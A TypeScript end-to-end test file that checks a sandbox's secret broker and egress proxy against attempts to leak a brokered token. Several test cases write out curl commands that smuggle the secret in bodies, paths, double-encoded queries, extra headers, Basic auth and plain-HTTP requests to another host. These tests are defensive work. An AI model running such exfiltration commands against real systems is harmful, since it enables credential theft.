import type { Sandbox } from "@hopx-ai/sdk";
import type { Verdict } from "#test/e2e/support/attacks.ts";
import { attemptsOf, judged } from "../attempt.ts";
import type { HostileWorld } from "../world.ts";

/** A sandbox that may use the vendor's secret toward api.test, and does something with it. */
async function withSecret(world: HostileWorld, act: (sandbox: Sandbox) => Promise<Verdict>): Promise<Verdict> {
  const { port } = world.secureWeb;
  const sandbox = await world.create({
    network: { mode: "observe" },
    secrets: { TOKEN: { from: "vendor", deliver: "broker", hosts: [`api.test:${port}`] } },
  });
  try {
    return await act(sandbox);
  } finally {
    await sandbox.kill();
  }
}

const leaked = (world: HostileWorld, from: number) =>
  [...world.web.requests, ...world.secureWeb.requests.slice(from)].some((request) =>
    JSON.stringify(request).includes(world.secretValue),
  );

/** Requests by curl that must reach no server: each argument list is one. */
const dropped = (name: string, must: string, command: (world: HostileWorld) => string) => ({
  tried: name,
  must,
  run: (world: HostileWorld) =>
    withSecret(world, async (sandbox) => {
      const before = world.secureWeb.requests.length;
      const plain = world.web.requests.length;
      const seen = await world.shell(sandbox, command(world));
      const got = world.secureWeb.requests.length - before + world.web.requests.length - plain;
      return judged(got === 0 && !leaked(world, before) && seen.includes("Bulkhead egress proxy"), seen);
    }),
});

const api = ({ secureWeb }: HostileWorld, path = "/") => `https://api.test:${secureWeb.port}${path}`;

export const attempts = attemptsOf("broker", [
  {
    tried: "read a brokered secret that is in use: environment and answer",
    must: "a placeholder is all there is",
    run: (world) =>
      withSecret(world, async (sandbox) => {
        const before = world.secureWeb.requests.length;
        const seen = await world.shell(
          sandbox,
          `echo $TOKEN; curl -s -m 8 -H "Authorization: Bearer $TOKEN" ${api(world)}`,
        );
        const used = world.secureWeb.requests
          .slice(before)
          .some(({ headers }) => headers.authorization === `Bearer ${world.secretValue}`);
        return judged(
          used && seen.includes("bhsecret_") && !seen.includes(world.secretValue),
          used ? "the API had the value, the sandbox its placeholder" : seen,
        );
      }),
  },
  {
    tried: "have the API say the secret back: in a body, compressed though nobody asked, on a later request",
    must: "it is hidden on the way back",
    run: (world) =>
      withSecret(world, async (sandbox) => {
        const before = world.secureWeb.requests.length;
        const header = '-H "Authorization: Bearer $TOKEN"';
        const seen = await world.shell(
          sandbox,
          `curl -si -m 8 ${header} ${api(world)}; curl -si -m 8 --compressed ${header} ${api(world, "/gzip")}; curl -si -m 8 ${api(world, "/before")}`,
        );
        const sent = world.secureWeb.requests
          .slice(before)
          .filter(({ headers }) => headers.authorization !== undefined);
        const said = seen.match(/bhsecret_[a-z2-7]{32}/g)?.length ?? 0;
        return judged(
          !seen.includes(world.secretValue) &&
            sent.every(({ headers }) => headers.authorization === `Bearer ${world.secretValue}`) &&
            seen.includes("before: Bearer bhsecret_") &&
            said >= 3,
          `${sent.length} requests with the value went out, ${said} placeholders came back`,
        );
      }),
  },
  dropped(
    "the placeholder in a body to its own host",
    "the request is dropped",
    (world) => `curl -s -m 8 -d "k=$TOKEN" ${api(world)}`,
  ),
  dropped("the placeholder in the path", "the request is dropped", (world) => `curl -s -m 8 ${api(world)}"$TOKEN"`),
  dropped(
    "the placeholder in the query, percent-encoded twice",
    "the request is dropped",
    (world) => `P=$(echo -n $TOKEN | od -An -tx1 | tr -d '\\n' | sed 's/ /%25/g'); curl -s -m 8 "${api(world)}?q=$P"`,
  ),
  dropped(
    "the placeholder in another header",
    "the request is dropped",
    (world) => `curl -s -m 8 -H "X-Key: $TOKEN" ${api(world)}`,
  ),
  dropped(
    "the placeholder as the password of Basic authentication",
    "the request is dropped",
    (world) => `curl -s -m 8 -u "user:$TOKEN" ${api(world)}`,
  ),
  dropped(
    "the placeholder to another host without TLS",
    "the request is dropped",
    (world) => `curl -s -m 8 -H "Authorization: Bearer $TOKEN" http://other.test:${world.web.port}/`,
  ),
  dropped(
    "a made-up placeholder",
    "the request is dropped",
    (world) => `curl -s -m 8 -H "Authorization: Bearer bhsecret_$(printf 'a%.0s' $(seq 32))" ${api(world)}`,
  ),
  {
    tried: "another sandbox's placeholder",
    must: "it is worth nothing here",
    run: (world) =>
      withSecret(world, (one) =>
        withSecret(world, async (other) => {
          const placeholder = (await world.shell(one, "echo -n $TOKEN")).trim();
          const before = world.secureWeb.requests.length;
          const seen = await world.shell(other, `curl -s -m 8 -H "Authorization: Bearer ${placeholder}" ${api(world)}`);
          return judged(world.secureWeb.requests.length === before && seen.includes("Bulkhead"), seen);
        }),
      ),
  },
  {
    tried: "the bound host by another Host header, for a server that would pick by it",
    must: "refused: Host and connection must agree",
    run: (world) =>
      withSecret(world, async (sandbox) => {
        const before = world.secureWeb.requests.length;
        const seen = await world.shell(
          sandbox,
          `curl -s -m 8 -H "Host: other.test" -H "Authorization: Bearer $TOKEN" ${api(world)}`,
        );
        return judged(
          world.secureWeb.requests.length === before && seen.includes("the request is for other.test"),
          seen,
        );
      }),
  },
  {
    tried: "an impostor at the bound host's address that is not who its name says",
    must: "the server must show a certificate for the name before anything is sent",
    async run(world) {
      const { port } = world.web;
      const hosts = [`api.test:${port}`];
      const sandbox = await world.create({
        network: { mode: "observe" },
        secrets: { TOKEN: { from: "vendor", deliver: "broker", hosts } },
      });
      const before = world.web.requests.length;
      const seen = await world.shell(
        sandbox,
        `curl -s -m 8 -H "Authorization: Bearer $TOKEN" https://api.test:${port}/`,
      );
      await sandbox.kill();
      return judged(world.web.requests.length === before && seen.includes("could not be reached"), seen);
    },
  },
]);
